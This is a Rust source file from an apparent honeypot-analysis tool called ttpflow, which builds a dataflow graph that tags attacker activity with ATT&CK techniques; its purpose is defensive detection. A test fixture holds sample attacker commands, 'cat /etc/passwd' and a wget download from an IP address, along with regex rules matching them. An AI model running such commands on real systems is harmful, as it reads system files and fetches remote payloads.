//! The ttpflow graph: honeypot bus records in, stored ATT&CK technique tags and their
//! rollups out.
//!
//! ```text
//! records ─ decode ─┬─ events ── anchor (real shapes; ⋈ attackers by ip) ── fan-out (session → commands)
//!                   │                                                          │
//!                   └─ table updates → attackers arrangement        detect: one compiled rule set per
//!                          │                                        source kind (regex, shell, structured
//!                          │                                        predicates), in one operator
//!                          │                                      + windows: cross-event detections
//!                          │                                        over event time (⋈ identities)
//!                          └─ intel rows (⋈ enriched events) ──── + intel: provider rules on each
//!                                                                   attacker's latest intel row
//!                                                                              │
//!                                                  store: tags distinct by uuid, insert-only,
//!                                                  earliest record wins
//!                                                                              │
//!   identity: table rows + identity events →      rollup: per attacker, canonical identity,
//!   attacker → canonical identity → canonical ──── canonical campaign, session and fleet;
//!   campaign (closures of merged_into)             semigroup accumulators, sharded by technique
//! ```
//!
//! Timely timestamps are epochs (one per source batch); event time is data. Every stage
//! is a function from collections to collections in its own module, whose doc states
//! its contract. Nothing here performs I/O: sources and sinks live in the `ttpflow`
//! crate and attach to [`Outputs`].
//!
//! The rules come from a [`PackSchedule`]: the pack of each epoch, so that a reloaded pack
//! applies from an epoch boundary on (see [`schedule`]).

pub mod anchor;
pub mod decode;
pub mod email;
pub mod fanout;
pub mod fasthash;
pub mod identity;
pub mod intel;
pub mod json;
pub mod latest;
pub mod predicates;
pub mod privacy;
pub mod providers;
pub mod pyregex;
pub mod record;
pub mod rollup;
pub mod rules;
pub mod schedule;
pub mod secret;
pub mod shapes;
pub mod shell;
pub mod store;
pub mod tagid;
#[cfg(test)]
mod testing;
pub mod time;
pub mod types;
pub mod windows;

use differential_dataflow::AsCollection;
use record::{DeadLetter, Event, Line, Subject, Tag};
use rules::RulePack;
pub use schedule::PackSchedule;
use timely::dataflow::operators::core::OkErr;
use timely::dataflow::operators::vec::Map;
use types::{Coll, Diff, Time};

/// What the graph hands to the sinks.
pub struct Outputs<'s> {
    /// Stored tags: each uuid once, insertions only.
    pub tags: Coll<'s, Tag>,
    /// Records that could not be used, as soon as that is known.
    pub dead_letters: Coll<'s, DeadLetter>,
    /// Events still waiting for their IP to resolve to an attacker.
    pub pending: Coll<'s, (String, Event)>,
    /// The rollup rows: one per scope and technique, changing as their numbers change, or
    /// each once with [`rollup::Emission::Final`].
    pub rollups: Coll<'s, rollup::RollupRow>,
    /// The live reference maps the rollups follow (attacker → canonical identity, …).
    pub references: identity::References<'s>,
    /// R0058's bump state: attackers whose latest intel verdict is malicious.
    pub intel_bumps: Coll<'s, (String, intel::Bump)>,
}

/// Builds the graph over a collection of raw records, with the rules of `packs`.
pub fn build<'s>(records: Coll<'s, Line>, packs: PackSchedule, emission: rollup::Emission) -> Outputs<'s> {
    let scope = records.scope();
    let decoded = scope.region_named("decode", |r| decode::stage(records.enter_region(r)).leave(scope));
    let anchored = scope.region_named("anchor", |r| {
        anchor::stage(decoded.events.enter_region(r), decoded.tables.clone().enter_region(r)).leave(scope)
    });
    let intel = scope.region_named("intel", |r| {
        let (events, tables) = (anchored.events.clone().enter_region(r), decoded.tables.clone().enter_region(r));
        intel::stage(events, tables, packs.clone()).leave(scope)
    });
    let subjects =
        scope.region_named("fan-out", |r| fanout::stage(anchored.events.clone().enter_region(r)).leave_region(scope));
    let windowed = scope.region_named("windows", |r| {
        let (subjects, tables) = (subjects.clone().enter_region(r), decoded.tables.clone().enter_region(r));
        windows::stage(subjects, tables, packs.clone()).leave_region(scope)
    });
    let (tags, unjudged) = scope.region_named("detect", |r| {
        let (tags, unjudged) = detect(subjects.enter_region(r), packs);
        (tags.leave_region(scope), unjudged.leave_region(scope))
    });
    let tags = tags.concat(intel.tags).concat(windowed);
    let stored = scope.region_named("store", |r| store::stage(tags.enter_region(r)).leave_region(scope));
    let references = scope.region_named("identity", |r| {
        let (tables, events) = (decoded.tables.enter_region(r), anchored.events.enter_region(r));
        identity::stage(tables, events).leave(scope)
    });
    let rollups = scope.region_named("rollup", |r| {
        let refs = references.enter_region(r);
        let rolled =
            rollup::stage(stored.clone().enter_region(r), &refs, intel.bumps.clone().enter_region(r), emission);
        (rolled.rows.leave_region(scope), rolled.dead_letters.leave_region(scope))
    });
    let (rollups, closed_sessions) = rollups;
    Outputs {
        tags: stored,
        dead_letters: decoded
            .dead_letters
            .concat(anchored.dead_letters)
            .concat(references.dead_letters.clone())
            .concat(closed_sessions)
            .concat(unjudged),
        pending: anchored.pending,
        rollups,
        references,
        intel_bumps: intel.bumps,
    }
}

/// Detect: every subject through the rule set of its source kind, in one operator, with
/// the pack of the subject's epoch. (Subjects are insertions; were one retracted after a
/// swap, its retraction would be judged by the new pack, and the store ignores retractions.)
/// A rule that could not judge a subject within its pattern budget is a dead letter
/// `rule_budget_exceeded` of the subject's record.
fn detect<'s>(subjects: Coll<'s, Subject>, packs: PackSchedule) -> (Coll<'s, Tag>, Coll<'s, DeadLetter>) {
    let mut packs = packs.packs();
    let judged = subjects.inner.flat_map(move |(subject, time, diff): (Subject, Time, Diff)| {
        evaluate(packs.pack(time), &subject).into_iter().map(move |judged| (judged, time, diff))
    });
    let (tags, unjudged) = judged.ok_err::<Vec<_>, _, Vec<_>, _, _>(|(judged, time, diff)| match judged {
        Ok(tag) => Ok((tag, time, diff)),
        Err(dead) => Err((dead, time, diff)),
    });
    (tags.as_collection(), unjudged.as_collection())
}

/// The tags `pack` emits for `subject`, and a dead letter per rule that could not judge it.
fn evaluate(pack: &RulePack, subject: &Subject) -> Vec<Result<Tag, DeadLetter>> {
    let (mut tags, mut over_budget) = (Vec::new(), Vec::new());
    pack.evaluate_reporting(subject, &mut tags, &mut over_budget);
    let unjudged = over_budget.into_iter().map(|idx| DeadLetter {
        pos: subject.pos,
        topic: None,
        reason: record::Reason::RuleBudgetExceeded,
        detail: budget_detail(&pack.rules()[idx].rule_id, subject),
    });
    tags.into_iter().map(Ok).chain(unjudged.map(Err)).collect()
}

/// The detail of a `rule_budget_exceeded` dead letter: the rule id first.
fn budget_detail(rule_id: &str, subject: &Subject) -> String {
    let what = match subject.part {
        0 => format!("its {} subject", subject.source_kind),
        part => format!("its command {}", part - 1),
    };
    format!(
        "{rule_id}: a pattern that needs the backtracking engine could not judge {what} within its budget \
         ({} bytes of text, {} steps); the rule did not judge it",
        pyregex::BACKTRACKING_TEXT_BYTES,
        pyregex::BACKTRACKING_STEPS
    )
}

#[cfg(test)]
mod tests {
    use std::sync::{Arc, Mutex};

    use differential_dataflow::input::Input;
    use timely::dataflow::ProbeHandle;

    use super::*;
    use crate::pyregex::PyRegex;
    use crate::record::Pos;
    use crate::rules::{Emit, Matcher, Rule, RuleState, DEFAULT_ATTACK_RELEASE};

    fn rule(id: &str, pattern: &str, confidence: f64) -> Rule {
        Rule {
            rule_id: id.into(),
            rule_version: 1,
            name: id.into(),
            description: String::new(),
            applies_to: vec!["command".into()],
            matcher: Matcher::Regex { field: None, regex: Box::new(PyRegex::new(pattern).unwrap()) },
            emits: vec![Emit {
                tactic: "TA0002".into(),
                technique_id: "T1059".into(),
                sub_technique_id: None,
                confidence,
            }],
            evidence_fields: vec!["command_text".into()],
            state: RuleState::default(),
        }
    }

    fn session(offset: u64, id: &str) -> Line {
        let text = format!(
            r#"{{"topic":"attacker.session.ended","type":"session.ended","payload":{{"attacker_uuid":"a1","session_id":"{id}","ended_at":"2026-01-01T00:00:00Z","commands":["cat /etc/passwd","uname -a","wget http://203.0.113.9/x"]}}}}"#
        );
        Line { pos: Pos { ts: 0, input: 0, offset }, topic: None, text: Ok(text) }
    }

    /// Pack A from epoch 0; pack B, installed once epochs 0 and 1 are through, from epoch 2:
    /// B drops X1, lowers X2's confidence and adds X3.
    #[test]
    fn a_swap_applies_from_its_epoch_and_takes_back_no_tag() {
        let a = RulePack::new(vec![rule("X1", "cat ", 0.9), rule("X2", "uname", 0.8)], DEFAULT_ATTACK_RELEASE);
        let b = RulePack::new(vec![rule("X2", "uname", 0.5), rule("X3", "wget", 0.7)], DEFAULT_ATTACK_RELEASE);
        let packs = PackSchedule::fixed(Arc::new(a));
        type Row = (String, String, String);
        let captured: Arc<Mutex<Vec<(Row, Time, Diff)>>> = Arc::default();
        let (sink, schedule, kept) = (Arc::clone(&captured), packs.clone(), packs.clone());
        timely::execute_directly(move |worker| {
            let probe = ProbeHandle::new();
            let mut input = worker.dataflow::<Time, _, _>(|scope| {
                let (input, records) = scope.new_collection::<Line, Diff>();
                let out = build(records, packs, rollup::Emission::EveryEpoch);
                out.tags.probe_with(&probe).inspect(move |(tag, time, diff)| {
                    let row = (tag.rule_id.clone(), tag.source_id.clone(), format!("{}", tag.confidence.0));
                    sink.lock().unwrap().push((row, *time, *diff));
                });
                input
            });
            input.insert(session(0, "s0"));
            input.advance_to(1);
            input.insert(session(1, "s1"));
            input.advance_to(2);
            input.flush();
            worker.step_while(|| probe.less_than(&2));
            schedule.install(2, Arc::new(b)).expect("epoch 2 is not evaluated yet");
            input.insert(session(2, "s2"));
        });
        let mut tags = captured.lock().unwrap().clone();
        differential_dataflow::consolidation::consolidate_updates(&mut tags);
        let tag = |rule: &str, source: &str, confidence: &str, time: Time| {
            ((rule.to_string(), source.to_string(), confidence.to_string()), time, 1)
        };
        let mut want = vec![
            tag("X1", "s0#cmd0", "0.9", 0),
            tag("X2", "s0#cmd1", "0.8", 0),
            tag("X1", "s1#cmd0", "0.9", 1),
            tag("X2", "s1#cmd1", "0.8", 1),
            tag("X2", "s2#cmd1", "0.5", 2),
            tag("X3", "s2#cmd2", "0.7", 2),
        ];
        want.sort();
        assert_eq!(tags, want, "epochs 0 and 1 follow A, epoch 2 follows B; nothing retracts");
        assert_eq!(kept.epochs(), [0, 2]);
        kept.retire_before(2);
        assert_eq!(kept.epochs(), [2]);
    }
}
